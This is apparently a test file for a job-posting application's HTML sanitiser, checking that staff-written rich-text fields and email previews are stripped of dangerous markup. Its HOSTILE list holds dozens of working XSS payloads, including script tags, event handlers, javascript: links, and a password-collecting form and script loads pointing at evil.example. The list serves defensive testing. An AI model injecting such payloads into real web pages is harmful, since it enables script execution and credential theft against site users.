import { eq } from 'drizzle-orm';
import { describe, expect, it } from 'vitest';
import { perFile } from '../../test/lifetimes.ts';
import { useTestServer } from '../../test/api-test.ts';
import { aStaffScene } from '../../test/staff-scene.ts';
import { jobs } from '../db/schema/index.ts';
import { sanitiseRichText } from './rich-text.ts';

const HOSTILE = [
  '<script>alert(1)</script>',
  '<SCRIPT SRC=//evil.example/x.js></SCRIPT>',
  '<scr<script>ipt>alert(1)</scr</script>ipt>',
  '<script\u000c>alert(1)</script>',
  '<img src=x onerror=alert(1)>',
  '<img src=x onerror=alert`1`>',
  '<img/src="x"/onerror=alert(1)//',
  '<image src=x onerror=alert(1)>',
  '<svg onload=alert(1)>',
  '<svg><script>alert(1)</script></svg>',
  '<svg><animate onbegin=alert(1) attributeName=x dur=1s>',
  '<svg><a xlink:href="javascript:alert(1)"><text>x</text></a></svg>',
  '<svg><style><img src=x onerror=alert(1)></style></svg>',
  '<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=alert(1)&gt;">',
  '<math href="javascript:alert(1)">x</math>',
  '<iframe src="javascript:alert(1)"></iframe>',
  '<iframe srcdoc="<script>alert(1)</script>"></iframe>',
  '<object data="data:text/html,<script>alert(1)</script>"></object>',
  '<embed src="javascript:alert(1)">',
  '<applet code=x></applet>',
  '<a href="javascript:alert(1)">x</a>',
  '<a href="JaVaScRiPt:alert(1)">x</a>',
  '<a href=" javascript:alert(1)">x</a>',
  '<a href="java\tscript:alert(1)">x</a>',
  '<a href="java\nscript:alert(1)">x</a>',
  '<a href="&#106;avascript:alert(1)">x</a>',
  '<a href="&#x6A&#x61vascript:alert(1)">x</a>',
  '<a href="javascript&colon;alert(1)">x</a>',
  '<a href="data:text/html;base64,PHNjcmlwdD4=">x</a>',
  '<a href="vbscript:msgbox(1)">x</a>',
  '<a href="//evil.example">x</a>',
  '<a href="https://ok.example" onclick="alert(1)">x</a>',
  '<a href="https://ok.example" style="position:fixed;inset:0">x</a>',
  '<a href="https://ok.example" target="_top" rel="opener">x</a>',
  '<p style="background:url(javascript:alert(1))">x</p>',
  '<p onmouseover=alert(1)>x</p>',
  '<p id="app" class="x" name="y">x</p>',
  '<style>@import "//evil.example";</style>',
  '<link rel=stylesheet href=//evil.example>',
  '<meta http-equiv=refresh content="0;url=javascript:alert(1)">',
  '<base href="//evil.example/">',
  '<form action="//evil.example"><input name=password><button>go</button></form>',
  '<button formaction="javascript:alert(1)">x</button>',
  '<details open ontoggle=alert(1)>x</details>',
  '<video><source onerror=alert(1)></video>',
  '<body onload=alert(1)>',
  '<template><script>alert(1)</script></template>',
  '<noscript><p title="</noscript><img src=x onerror=alert(1)>"></noscript>',
  '<textarea><img src=x onerror=alert(1)></textarea>',
  '<title><img src=x onerror=alert(1)></title>',
  '<xmp><img src=x onerror=alert(1)></xmp>',
  '<plaintext><img src=x onerror=alert(1)>',
  '<!--><img src=x onerror=alert(1)>-->',
  '<![CDATA[<img src=x onerror=alert(1)>]]>',
  '<?xml version="1.0"?><img src=x onerror=alert(1)>',
  '</p><script>alert(1)//',
  '<<p>script>alert(1)<</p>/script>',
  '<p/onclick=alert(1)>x',
  '<dialog open onclose=alert(1)>x</dialog>',
];

const ALLOWED = new Set('p br strong em u s ul ol li h3 h4 blockquote a'.split(' '));

/** Checks the remaining tags as a browser reads them: only plain ones, and links that lead outside harmlessly. */
function expectHarmless(html: string): void {
  // A bracket that begins no tag has to be written as an entity.
  expect(html.replaceAll(/<\/?[a-z0-9]+(?: [a-z]+="[^"<>]*")* ?\/?>/g, '')).not.toMatch(/[<>]/);
  for (const [, slash, name = '', attributes = ''] of html.matchAll(/<(\/?)([a-z0-9]+)([^>]*)>/g)) {
    expect(ALLOWED, name).toContain(name);
    if (name !== 'a' || slash) expect(attributes.replace('/', '').trim()).toBe('');
    for (const [, attribute = '', value = ''] of attributes.matchAll(/([a-z-]+)="([^"]*)"/g)) {
      if (attribute === 'href') expect(value).toMatch(/^(https?:\/\/|mailto:|tel:)/);
      else expect({ target: '_blank', rel: 'noopener noreferrer nofollow' }).toHaveProperty(attribute, value);
    }
  }
}

const FIELDS = [
  'description',
  'details',
  'applicant_accept_text',
  'interview_intro_text',
  'interview_complete_message',
  'invitation_text',
] as const;

const server = useTestServer();
const scene = perFile(() => aStaffScene(server));

describe('rich text', () => {
  it.each(HOSTILE)('%j leaves nothing that runs', (payload) => {
    const once = sanitiseRichText(payload);
    expectHarmless(once);
    expect(sanitiseRichText(once), 'a second time changes nothing').toBe(once);
  });

  it('keeps what staff may write', () => {
    const text =
      '<p>Hello <strong>you</strong> &amp; <em>yours</em>, 3 &lt; 4<br />next</p><ul><li>one</li></ul><h3>More</h3><blockquote>said</blockquote>';
    expect(sanitiseRichText(text)).toBe(text);
    expect(sanitiseRichText('<h1>Big</h1><b>b</b><i>i</i><div>d</div>')).toBe(
      '<h3>Big</h3><strong>b</strong><em>i</em><p>d</p>',
    );
    expect(sanitiseRichText('<a href="https://a.example/x?y=1&amp;z=2">here</a>')).toBe(
      '<a href="https://a.example/x?y=1&amp;z=2" rel="noopener noreferrer nofollow" target="_blank">here</a>',
    );
  });

  it.each(FIELDS)('of %s is cleaned before it is stored', async (field) => {
    const payload = `<p>Kept</p>${HOSTILE.filter((one) => !/plaintext|textarea|xmp|title>|<!--|noscript|\u000c|script>alert\(1\)\/\//.test(one)).join('\n')}`;
    const changed = await scene.client.patch(scene.path, { [field]: payload });
    expect(changed.status, changed.text).toBe(200);
    const [row] = await server.ctx.db.select().from(jobs).where(eq(jobs.id, scene.job.id));
    expect(row?.[field]).toContain('<p>Kept</p>');
    expectHarmless(row?.[field] ?? '');
    expect((changed.json as Record<string, string>)[field]).toBe(row?.[field]);
    const made = await scene.client.post('/api/jobs', { [field]: payload });
    expectHarmless((made.json as Record<string, string>)[field] ?? '<');
  });

  it('that a factory or an import stored unclean is cleaned again when it goes into a mail', async () => {
    const body = '<p>Hi [FIRST NAME]</p><script>alert(1)</script><img src=x onerror=alert(1)>';
    const preview = await scene.client.post(`${scene.path}/email-preview`, { type: 'invitation', body });
    const { html } = preview.json as { html: string };
    expect(html).not.toMatch(/<script|onerror|alert\(1\)/);
    expect(html).toContain('Hi ');
  });

  it('fits twenty thousand characters and not one more', async () => {
    const text = 'x'.repeat(20_000);
    expect((await scene.client.patch(scene.path, { details: text })).status).toBe(200);
    expect((await scene.client.patch(scene.path, { details: `${text}y` })).status).toBe(422);
  });
});
